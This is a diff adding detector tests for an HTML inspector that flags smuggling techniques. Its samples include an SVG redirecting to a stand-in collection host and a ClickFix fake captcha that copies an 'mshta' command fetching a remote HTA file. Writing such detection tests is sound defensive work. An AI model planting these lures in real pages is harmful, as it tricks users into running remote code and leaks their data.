@@ -291,6 +291,20 @@ describe('html', () => {
     assert.deepEqual(inspectHtml(utf8('<script>var q = decodeURIComponent(location.search); if (q) location.href = "/search?q=" + q;</script>'), DEFAULT_LIMITS).smuggling, []);
     assert.deepEqual(inspectHtml(utf8('<script>if (location.hash === "") location.href = "https://example.org/";</script>'), DEFAULT_LIMITS).smuggling, []);
   });
+  it('recognises a picture whose script navigates, in plain sight too', () => {
+    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><text>Loading…</text><script><![CDATA[window.location.href = "https://collect.example/?r=" + "YW15";]]></script></svg>';
+    assert.deepEqual(inspectHtml(utf8(svg), DEFAULT_LIMITS).smuggling, ['picture_redirect']);
+    // An animated picture's script, and a page that embeds an SVG and redirects, are not pictures sending the reader on.
+    assert.deepEqual(inspectHtml(utf8('<svg xmlns="http://www.w3.org/2000/svg"><circle id="c" r="4"/><script>setInterval(function(){c.setAttribute("r", 4 + Math.random())}, 100)</script></svg>'), DEFAULT_LIMITS).smuggling, []);
+    assert.deepEqual(inspectHtml(utf8('<html><body><svg width="10"><rect/></svg><script>if (!window.ok) location.href = "/fallback.html";</script></body></html>'), DEFAULT_LIMITS).smuggling, []);
+  });
+  it('recognises a script that copies a command for the reader to run (ClickFix)', () => {
+    const captcha = '<input type="checkbox" id="c"><ol><li>Press Windows + R</li><li>Press Ctrl + V</li></ol><script>c.onclick=function(){navigator.clipboard.writeText("mshta https://x.example/v.hta");};</script>';
+    assert.deepEqual(inspectHtml(utf8(captcha), DEFAULT_LIMITS).smuggling, ['clipboard_command']);
+    assert.deepEqual(inspectHtml(utf8('<script>document.execCommand("copy")</script><p>Press Win+R, paste and press Enter</p>'), DEFAULT_LIMITS).smuggling, ['clipboard_command']);
+    // A voucher or licence key copied with a button runs nothing.
+    assert.deepEqual(inspectHtml(utf8('<button onclick="navigator.clipboard.writeText(\'SPRING-25-XQ7\')">Copy code</button><p>Paste it at checkout.</p>'), DEFAULT_LIMITS).smuggling, []);
+  });
   it('stays quiet on a plain page, inline images and fonts', () => {
     const page = `<html><style>@font-face{src:url(data:application/font-woff;base64,${'A'.repeat(9000)})}</style><body><img src="data:image/png;base64,${'B'.repeat(9000)}"><script>var x = atob("aGk=");</script></body></html>`;
     assert.deepEqual(inspectHtml(utf8(page), DEFAULT_LIMITS).smuggling, []);
